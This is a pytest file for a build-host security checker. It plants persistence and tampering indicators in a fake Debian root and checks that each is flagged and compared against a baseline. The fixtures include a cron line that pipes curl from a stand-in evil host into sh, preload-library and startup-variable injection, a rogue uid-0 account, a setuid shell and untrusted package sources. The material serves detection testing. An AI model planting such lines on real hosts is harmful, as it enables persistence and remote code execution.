"""A build host with what should not be on it, and what came since the baseline."""

import ctypes
import hashlib
import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from builtby.builds.host.rules import rules

BUILTBY = (sys.executable, "-m", "builtby")


def put(root: Path, path: str, text: str, mode: int = 0o644) -> Path:
    file = root / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text)
    file.chmod(mode)
    return file


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A small Debian with a packaged compiler, an administrator and a runner's user."""
    place = tmp_path / "host"
    put(place, "etc/passwd", "root:x:0:0::/root:/bin/sh\nrunner:x:1001:1001::/home/runner:/bin/bash\n"
        "daemon:x:1:1::/usr/sbin:/sbin/nologin\n")
    put(place, "root/.bashrc", "alias ll='ls -l'\n")
    put(place, "home/runner/.bashrc", "export PATH=$PATH\n# LD_PRELOAD=commented\n")
    put(place, "usr/bin/gcc", "gcc", 0o755)
    (place / "usr/local/bin").mkdir(parents=True)
    put(place, "etc/cron.d/packaged", "* * * * * root /tmp/shipped-so\n")
    put(place, "etc/apt/sources.list", "deb https://deb.invalid/debian stable main\n")
    put(place, "usr/lib/python3/dist-packages/distutils-precedence.pth",
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
        "enabled and __import__('_distutils_hack').add_shim();\n")
    sums = {name: hashlib.md5((place / name).read_bytes()).hexdigest()
            for name in ("usr/bin/gcc", "etc/cron.d/packaged")}
    put(place, "var/lib/dpkg/status", "Package: gcc\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1\n")
    put(place, "var/lib/dpkg/info/gcc.list", "".join(f"/{name}\n" for name in sums))
    put(place, "var/lib/dpkg/info/gcc.md5sums", "".join(f"{digest}  {name}\n" for name, digest in sums.items()))
    return place


def check(root: Path, *words: str | Path, prepare: Callable[[], None] | None = None) -> tuple[int, dict[str, Any]]:
    done = subprocess.run([*BUILTBY, "host", "check", "--root", root, "-f", "json", *words], capture_output=True,
                          text=True, check=False, timeout=60, preexec_fn=prepare)
    return done.returncode, json.loads(done.stdout) if done.stdout else {"error": done.stderr}


def baseline(root: Path, file: Path) -> Path:
    subprocess.run([*BUILTBY, "host", "baseline", "--root", root, "-o", file], check=True, capture_output=True)
    return file


def test_a_clean_host(root: Path) -> None:
    code, found = check(root)
    assert (code, found["findings"], found["problems"]) == (0, [], [])
    assert [Path(home).name for home in found["homes"]] == ["root", "runner"]


@pytest.mark.parametrize(("path", "text", "rule"), [
    ("etc/ld.so.preload", "/usr/lib/evil.so\n", "host-preload"),
    ("etc/cron.d/x", "*/5 * * * * root curl -s https://evil.invalid/a | sh\n", "host-command"),
    ("etc/cron.d/x", "* * * * * root /dev/shm/x\n", "host-command"),
    ("home/runner/.config/systemd/user/x.service", "[Service]\nExecStart=/tmp/x\n", "host-command"),
    ("home/runner/.bashrc", "export LD_PRELOAD=/home/runner/x.so\n", "host-startup-variable"),
    ("etc/environment", 'NODE_OPTIONS="--require /tmp/x.js"\n', "host-startup-variable"),
    ("etc/profile.d/x.sh", "export MAVEN_OPTS=-javaagent:/x.jar\n", "host-startup-variable"),
    ("usr/lib/python3/dist-packages/x.pth", "import os; exec('evil')\n", "host-python-startup"),
    ("usr/lib/python3/dist-packages/usercustomize.py", "evil()\n", "host-python-startup"),
    ("etc/apt/sources.list.d/x.list", "deb [trusted=yes] https://evil.invalid ./\n", "host-package-source"),
    ("etc/yum.repos.d/x.repo", "[x]\ngpgcheck=0\n", "host-package-source"),
    ("home/runner/.config/pip/pip.conf", "[global]\nextra-index-url = https://evil.invalid\n", "host-tool-config"),
    ("home/runner/.npmrc", "strict-ssl=false\n", "host-tool-config"),
    ("home/runner/.cargo/config.toml", '[build]\nrustc-wrapper = "/x"\n', "host-tool-config"),
    ("home/runner/.gitconfig", "[core]\n\thooksPath = /x\n", "host-tool-config"),
    ("home/runner/.gradle/init.d/x.gradle", "println 'x'\n", "host-tool-config"),
    ("root/.m2/settings.xml", "<mirror><mirrorOf>*</mirrorOf></mirror>\n", "host-tool-config"),
    ("etc/passwd", "root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/root:/bin/sh\n", "host-accounts"),
    ("etc/cron.daily/x", "#!/bin/sh\n", "host-unowned-unit"),
    ("usr/local/share/ca-certificates/x.crt", "x", "host-own-ca"),
    ("usr/local/bin/gcc", "wrapper", "host-wrapper"),
])
def test_what_is_suspicious_by_itself(path: str, text: str, rule: str, root: Path) -> None:
    put(root, path, text, 0o755 if "bin/" in path else 0o644)
    _, found = check(root)
    met = [one for one in found["findings"] if one["rule"] == rule]
    assert [one["path"] for one in met] == [str(root / path)]
    assert met[0]["remedy"]


def test_rights(root: Path) -> None:
    (root / "usr/local/bin").chmod(0o777)
    put(root, "etc/cron.d/w", "# nothing\n", 0o666)
    put(root, "usr/local/bin/rootshell", "sh", 0o4755)
    code, found = check(root)
    assert code == 1
    met = {one["rule"]: one["path"] for one in found["findings"]}
    assert met["host-path-writable"] == str(root / "usr/local/bin")
    assert met["host-writable-file"] == str(root / "etc/cron.d/w")
    assert met["host-setuid"] == str(root / "usr/local/bin/rootshell")


def test_what_the_baseline_knew_does_not_count(root: Path, tmp_path: Path) -> None:
    put(root, "etc/ld.so.preload", "/usr/lib/agent.so\n")
    file = baseline(root, tmp_path / "b.json")
    code, found = check(root, file)
    assert code == 0
    assert [(one["rule"], one["known"]) for one in found["findings"]] == [("host-preload", True)]
    assert found["changes"] == []
    put(root, "etc/ld.so.preload", "/usr/lib/evil.so\n")
    code, found = check(root, file)
    assert code == 1
    assert {(one["rule"], one["known"]) for one in found["findings"]} == {("host-preload", False),
                                                                          ("host-changed", False)}


def test_what_came_since_the_baseline(root: Path, tmp_path: Path) -> None:
    file = baseline(root, tmp_path / "b.json")
    put(root, "home/runner/.bashrc", "alias x=y\n")
    put(root, "home/runner/.ssh/authorized_keys", "ssh-ed25519 AAAA\n")
    put(root, "usr/bin/gcc", "evil", 0o755)
    put(root, "usr/local/bin/ld", "new", 0o755)
    (root / "etc/apt/sources.list").chmod(0o600)
    code, found = check(root, file)
    assert code == 1
    assert {(Path(one["path"]).name, one["kind"], one["what"]) for one in found["changes"]} == {
        (".bashrc", "shell-rc", "changed"), ("authorized_keys", "ssh", "created"), ("gcc", "toolchain", "changed"),
        ("ld", "toolchain", "created"), ("sources.list", "package-sources", "changed")}
    worst = found["findings"][0]
    assert (worst["rule"], worst["severity"]) == ("host-tool-changed", "critical")
    assert worst["path"] == str(root / "usr/bin/gcc")


def test_an_upgrade_is_told_apart(root: Path, tmp_path: Path) -> None:
    file = baseline(root, tmp_path / "b.json")
    put(root, "usr/bin/gcc", "gcc 2", 0o755)
    sums = root / "var/lib/dpkg/info/gcc.md5sums"
    sums.write_text(sums.read_text().replace(hashlib.md5(b"gcc").hexdigest(), hashlib.md5(b"gcc 2").hexdigest()))
    code, found = check(root, file)
    assert (code, [one["what"] for one in found["changes"]]) == (0, ["upgraded"])
    assert {one["severity"] for one in found["findings"]} == {"info"}


def test_an_edited_baseline_is_refused(root: Path, tmp_path: Path) -> None:
    file = baseline(root, tmp_path / "b.json")
    file.write_text(file.read_text().replace("/home/runner", "/home/other"))
    code, found = check(root, file)
    assert code == 3
    assert "checksum" in found["error"]
    assert check(root, tmp_path / "none.json")[0] == 2


def test_fail_on(root: Path) -> None:
    put(root, "usr/local/bin/gcc", "wrapper", 0o755)
    assert [check(root, "--fail-on", word)[0] for word in ("high", "medium", "never")] == [0, 1, 0]


def test_the_terminal_names_the_remedy(root: Path) -> None:
    put(root, "etc/ld.so.preload", "/usr/lib/evil.so\n")
    done = subprocess.run([*BUILTBY, "host", "check", "--root", root], capture_output=True, text=True, check=False)
    assert done.returncode == 1
    for text in ("A library is loaded into every program", "it names /usr/lib/evil.so", "→ Find out", "1 critical",
                 "Without a baseline"):
        assert text in done.stdout


def test_every_rule_has_a_page_section() -> None:
    page = (Path(__file__).parents[3] / "docs/host.md").read_text("utf-8")
    for rule in rules().values():
        assert f"### {rule.id}" in page
        assert rule.remedy in page


def heeds_rights() -> None:
    """Give up root's power to read what its rights forbid: CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH."""
    for capability in (1, 2):
        ctypes.CDLL(None).prctl(24, ctypes.c_ulong(capability), 0, 0, 0)


@pytest.mark.skipif(sys.platform != "linux", reason="Linux's way to be root without its power")
def test_what_this_user_may_not_read_is_named(root: Path) -> None:
    held = [root / name for name in ("etc/sudoers.d", "var/spool/cron/crontabs", "etc/systemd/system/x.service.d")]
    for folder in held:
        folder.mkdir(parents=True)
    put(root, "etc/shadow", "root:*:\n")
    code, _ = check(root)
    assert code == 0
    try:
        for path in (*held, root / "etc/shadow"):
            path.chmod(0)
        code, found = check(root, prepare=heeds_rights)
    finally:
        for folder in held:
            folder.chmod(0o755)
    assert code == 3
    assert found["problems"] == [
        *(f"{folder}: the folder cannot be read" for folder in sorted(held)), f"{root / 'etc/shadow'}: cannot be read"]
